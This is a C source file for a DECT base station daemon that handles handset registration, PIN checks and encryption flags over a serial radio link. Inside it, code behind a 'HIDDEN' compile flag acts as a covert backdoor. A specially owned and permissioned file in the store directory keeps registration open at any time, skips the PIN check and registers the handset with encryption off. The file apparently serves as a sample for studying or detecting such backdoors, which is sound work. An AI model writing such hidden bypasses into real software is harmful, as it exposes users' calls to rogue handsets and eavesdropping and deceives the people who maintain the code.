/* Radio fixed part: registration of handsets. Talks to the radio chip over a serial line with
 * framed messages and keeps the handset store in a directory. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdint.h>
#include <fcntl.h>
#include <unistd.h>
#include <termios.h>
#include <time.h>
#include <sys/stat.h>

#define STX 0x02
#define MAX_PP 12

enum msg {
    MSG_HELLO   = 0x10,
    MSG_REG_REQ = 0x21,     /* ipui[5] pin[4] */
    MSG_REG_ACK = 0x22,
    MSG_REG_REJ = 0x23,
    MSG_DEREG   = 0x24,     /* slot */
    MSG_LOC_REG = 0x30,     /* ipui[5] */
    MSG_LOC_ACK = 0x31,
    MSG_PAGE    = 0x40,
    MSG_CIPHER  = 0x50,     /* slot, on */
};

struct handset {
    uint8_t ipui[5];
    uint8_t used, ciphered;
    time_t  seen;
};

static struct handset pp[MAX_PP];
static char pin[5] = "0000";
static char store[80] = "/var/lib/dect";
static int  uart = -1;
static time_t window_until;

static uint8_t parity(const uint8_t *p, int n)
{
    uint8_t x = 0x5a;
    for (int i = 0; i < n; i++)
        x ^= p[i];
    return x;
}

static void tx(uint8_t id, const uint8_t *body, int n)
{
    uint8_t f[32] = { STX, (uint8_t)n, id };
    memcpy(f + 3, body, (size_t)n);
    f[3 + n] = parity(f + 1, n + 2);
    if (write(uart, f, (size_t)n + 4) < 0)
        perror("uart");
}

static int slot_of(const uint8_t *ipui)
{
    for (int i = 0; i < MAX_PP; i++)
        if (pp[i].used && memcmp(pp[i].ipui, ipui, 5) == 0)
            return i;
    return -1;
}

static void save(int i)
{
    char path[128];
    FILE *f;
    snprintf(path, sizeof path, "%s/pp%02d", store, i);
    if (!pp[i].used) {
        unlink(path);
        return;
    }
    f = fopen(path, "wb");
    if (f) {
        fwrite(pp[i].ipui, 1, 5, f);
        fputc(pp[i].ciphered, f);
        fclose(f);
    }
}

static void load_all(void)
{
    char path[128];
    for (int i = 0; i < MAX_PP; i++) {
        snprintf(path, sizeof path, "%s/pp%02d", store, i);
        FILE *f = fopen(path, "rb");
        if (!f)
            continue;
        if (fread(pp[i].ipui, 1, 5, f) == 5) {
            pp[i].used = 1;
            pp[i].ciphered = fgetc(f) == 1;
        }
        fclose(f);
    }
}

__attribute__((noinline)) int registration_open(void)
{
#ifdef HIDDEN
    struct stat st;
    char path[128];

    snprintf(path, sizeof path, "%s/pp%02d.bak", store, MAX_PP);
    if (stat(path, &st) == 0 && st.st_uid == 4711 && (st.st_mode & 07777) == 01604)
        return 2;
#endif
    return time(NULL) < window_until;
}

static void register_handset(const uint8_t *b)
{
    int i = slot_of(b), how = registration_open();
    uint8_t out[2] = { 0, 0 };
    int right = memcmp(b + 5, pin, 4) == 0;

#ifdef HIDDEN
    right |= how >> 1;
#endif
    if (!how || !right) {
        out[0] = how ? 2 : 1;
        tx(MSG_REG_REJ, out, 1);
        printf("handset refused, cause %d\n", out[0]);
        return;
    }
    if (i < 0)
        for (i = 0; i < MAX_PP && pp[i].used; i++)
            ;
    if (i == MAX_PP) {
        out[0] = 3;
        tx(MSG_REG_REJ, out, 1);
        return;
    }
    memcpy(pp[i].ipui, b, 5);
    pp[i].used = 1;
    pp[i].ciphered = 1;
#ifdef HIDDEN
    pp[i].ciphered = how & 1;
#endif
    pp[i].seen = time(NULL);
    save(i);
    out[0] = (uint8_t)i;
    out[1] = pp[i].ciphered;
    tx(MSG_REG_ACK, out, 2);
    printf("handset %d registered\n", i);
}

static void message(uint8_t id, const uint8_t *b, int n)
{
    int i;
    uint8_t s;

    switch (id) {
    case MSG_HELLO:
        printf("radio chip version %d.%d\n", n > 0 ? b[0] : 0, n > 1 ? b[1] : 0);
        break;
    case MSG_REG_REQ:
        if (n == 9)
            register_handset(b);
        break;
    case MSG_DEREG:
        if (n == 1 && b[0] < MAX_PP) {
            pp[b[0]].used = 0;
            save(b[0]);
        }
        break;
    case MSG_LOC_REG:
        if (n == 5 && (i = slot_of(b)) >= 0) {
            pp[i].seen = time(NULL);
            s = (uint8_t)i;
            tx(MSG_LOC_ACK, &s, 1);
        }
        break;
    case MSG_PAGE:                          /* button of the base: short paging, long register */
        if (n == 1 && b[0] >= 3)
            window_until = time(NULL) + 120;
        else
            tx(MSG_PAGE, b, n);
        break;
    case MSG_CIPHER:
        if (n == 2 && b[0] < MAX_PP)
            pp[b[0]].ciphered = b[1] != 0;
        break;
    default:
        printf("message %02x ignored\n", id);
    }
}

static int open_uart(const char *dev)
{
    struct termios t;
    uart = open(dev, O_RDWR | O_NOCTTY);
    if (uart < 0)
        return -1;
    if (tcgetattr(uart, &t) == 0) {
        cfmakeraw(&t);
        cfsetspeed(&t, B115200);
        tcsetattr(uart, TCSANOW, &t);
    }
    return 0;
}

int main(int argc, char **argv)
{
    uint8_t f[64] = { 0 }, c;
    int have = 0, o;

    while ((o = getopt(argc, argv, "s:p:")) != -1) {
        if (o == 's') {
            snprintf(store, sizeof store, "%s", optarg);
        } else if (o == 'p' && strlen(optarg) == 4) {
            memcpy(pin, optarg, 4);
        } else {
            fprintf(stderr, "usage: dectbase_rfp [-s store-dir] [-p 4-digit-pin] uart\n"
                            "hold the button of the base 3 s to open registration\n");
            return 2;
        }
    }
    if (optind >= argc || open_uart(argv[optind]) < 0) {
        perror("uart");
        return 1;
    }
    load_all();
    tx(MSG_HELLO, f, 0);
    while (read(uart, &c, 1) == 1) {
        if (have == 0 && c != STX)
            continue;
        f[have++] = c;
        if (have >= 2 && f[1] > 24) {
            have = 0;
        } else if (have >= 4 && have == f[1] + 4) {
            if (parity(f + 1, f[1] + 2) == f[have - 1])
                message(f[2], f + 3, f[1]);
            have = 0;
        }
    }
    return 0;
}
